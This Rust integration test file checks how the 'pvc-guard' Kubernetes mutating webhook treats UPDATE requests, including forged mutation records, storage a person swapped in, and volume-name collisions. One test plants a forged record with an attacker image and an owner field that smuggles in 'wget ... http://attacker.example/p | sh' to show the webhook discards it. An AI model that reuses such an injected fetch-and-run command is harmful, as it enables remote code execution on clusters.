//! The `pvc-guard.io/mutated` record is a description, never an authority,
//! and a storage change a person made wins over it. Over HTTPS against the
//! real binary, as the API server calls the mutating webhook on UPDATE.

mod common;

use common::{Server, allowed, patch_of, post, read_json, warnings};
use pvc_guard::config::Config;
use pvc_guard::policy::Policy;
use serde_json::{Value, json};

/// An UPDATE review: `old` is what is stored, `new` what is written.
fn update(old: &Value, new: &Value) -> Value {
    let mut r = read_json("admission/pg-emptydir.create.json");
    r["request"]["operation"] = json!("UPDATE");
    r["request"]["oldObject"] = old.clone();
    r["request"]["object"] = new.clone();
    r
}

fn patched(object: &Value, answer: &Value) -> Value {
    let mut out = object.clone();
    if let Some(p) = patch_of(answer) {
        json_patch::patch(&mut out, &p).unwrap();
    }
    out
}

/// The fixture's bitnami postgres (runs as 1001, so the fix adds the
/// permissions init container) as the mutating webhook stored it.
fn stored() -> (Value, Value) {
    let review = read_json("admission/pg-emptydir.create.json");
    let mut original = review["request"]["object"].clone();
    let pod = &mut original["spec"]["template"]["spec"];
    pod["containers"][0]["image"] = json!("bitnami/postgresql:17");
    pod["containers"][0]["volumeMounts"][0]["mountPath"] = json!("/bitnami/postgresql");
    let fixed = common::fixed(&Policy::new(Config::default()), &original);
    let init = &fixed["spec"]["template"]["spec"]["initContainers"][0];
    assert_eq!(init["name"], "pvc-guard-permissions", "{fixed}");
    (original, fixed)
}

fn mutated(object: &Value) -> Value {
    let text = object["metadata"]["annotations"]["pvc-guard.io/mutated"]
        .as_str()
        .unwrap();
    serde_json::from_str(text).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_record_puts_back_no_command_image_or_owner_of_its_own() {
    let server = Server::start(&[]);
    let client = server.client(true);
    let (original, mut stored) = stored();
    // Someone edits the stored record: another image, an owner that is a
    // shell command, and the init container dropped from the object.
    let mut record = mutated(&stored);
    for change in record["changes"].as_array_mut().unwrap() {
        if change["change"] == "permissions" {
            change["image"] = json!("attacker.example/pwn:1");
            change["dirs"][0]["owner"] =
                json!("999:999 /tmp; wget -qO- http://attacker.example/p | sh");
        }
    }
    stored["metadata"]["annotations"]["pvc-guard.io/mutated"] = json!(record.to_string());
    // A GitOps re-apply of the original drops the claim mount.
    let (status, answer) = post(&client, &server.url("/mutate"), &update(&stored, &original)).await;
    assert_eq!(status, 200);
    let after = patched(&original, &answer);
    let pod = &after["spec"]["template"]["spec"];
    assert_eq!(
        pod["volumes"], stored["spec"]["template"]["spec"]["volumes"],
        "the claim is put back"
    );
    let init = &pod["initContainers"][0];
    assert_eq!(init["name"], "pvc-guard-permissions");
    assert_eq!(init["image"], "docker.io/library/busybox:1.37", "{init}");
    let command: Vec<&str> = init["command"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        command.contains(&"1001:0"),
        "the catalog's user, recomputed: {command:?}"
    );
    assert!(
        !after.to_string().contains("attacker.example"),
        "nothing of the forged entry reaches the object"
    );
    let w = warnings(&answer).join("\n");
    assert!(w.contains("pvc-guard would not write"), "{w}");
    assert!(w.contains("put them back"), "{w}");
    // The record written back keeps only what pvc-guard would write.
    let written = mutated(&after);
    assert!(!written.to_string().contains("attacker"), "{written}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_claim_a_person_swapped_in_is_kept_and_the_warning_says_the_record_no_longer_matches() {
    let server = Server::start(&[]);
    let client = server.client(true);
    let (_, stored) = stored();
    // The operator restores a backup into a new claim and points the pod at it.
    let mut restored = stored.clone();
    let volumes = restored["spec"]["template"]["spec"]["volumes"]
        .as_array_mut()
        .unwrap();
    let claim = volumes
        .iter_mut()
        .find(|v| v.get("persistentVolumeClaim").is_some())
        .unwrap();
    claim["persistentVolumeClaim"]["claimName"] = json!("billing-db-v2");
    let (status, answer) = post(&client, &server.url("/mutate"), &update(&stored, &restored)).await;
    assert_eq!(status, 200);
    assert!(patch_of(&answer).is_none(), "nothing is put back: {answer}");
    let w = warnings(&answer).join("\n");
    assert!(w.contains("no longer matches"), "{w}");
    assert!(!w.contains("put them back"), "{w}");
    let (_, verdict) = post(
        &client,
        &server.url("/validate"),
        &update(&stored, &restored),
    )
    .await;
    assert_eq!(allowed(&verdict), Some(true), "{verdict}");
    // Another volume mounted at the recorded path is a change on purpose too.
    let mut other = stored.clone();
    let pod = &mut other["spec"]["template"]["spec"];
    pod["volumes"] = json!([{"name": "nfs", "nfs": {"server": "backup", "path": "/pg"}}]);
    pod["containers"][0]["volumeMounts"] =
        json!([{"name": "nfs", "mountPath": "/bitnami/postgresql"}]);
    let (_, answer) = post(&client, &server.url("/mutate"), &update(&stored, &other)).await;
    assert!(patch_of(&answer).is_none(), "{answer}");
}

/// The fix names the claim volume it adds `pvc-guard-<container>`. A
/// volume of that name the pod already has is a person's, whatever its
/// name says: making it a claim would move the storage of the sidecar
/// that mounts it. The fix takes the next free name instead. (Found by the
/// `mutation_laws` fuzzer: tests/data/fuzz/mutation_laws/hostpath-volume-named-like-the-fix.json.)
#[tokio::test(flavor = "multi_thread")]
async fn a_volume_named_like_the_fixs_own_is_left_as_its_owner_wrote_it() {
    let server = Server::start(&[]);
    let client = server.client(true);
    let mut review = read_json("admission/pg-no-volume.create.json");
    let pod = &mut review["request"]["object"]["spec"]["template"]["spec"];
    pod["containers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "agent", "image": "example/agent:1",
            "volumeMounts": [{"name": "pvc-guard-postgres", "mountPath": "/host"}]}));
    let hostpath = json!({"name": "pvc-guard-postgres", "hostPath": {"path": "/var/log"}});
    pod["volumes"] = json!([hostpath]);
    let (status, answer) = post(&client, &server.url("/mutate"), &review).await;
    assert_eq!(status, 200);
    let fixed = patched(&review["request"]["object"], &answer);
    let pod = &fixed["spec"]["template"]["spec"];
    assert_eq!(pod["volumes"][0], hostpath, "{fixed}");
    assert_eq!(pod["volumes"][1]["name"], "pvc-guard-postgres-2", "{fixed}");
    assert!(pod["volumes"][1]["persistentVolumeClaim"]["claimName"].is_string());
    assert_eq!(
        pod["containers"][0]["volumeMounts"][0]["name"],
        "pvc-guard-postgres-2"
    );
    assert_eq!(
        pod["containers"][1]["volumeMounts"][0]["name"],
        "pvc-guard-postgres"
    );
    // The validating webhook then admits the fixed object.
    let mut again = review.clone();
    again["request"]["object"] = fixed;
    let (_, validated) = post(&client, &server.url("/validate"), &again).await;
    assert_eq!(allowed(&validated), Some(true), "{validated}");
}
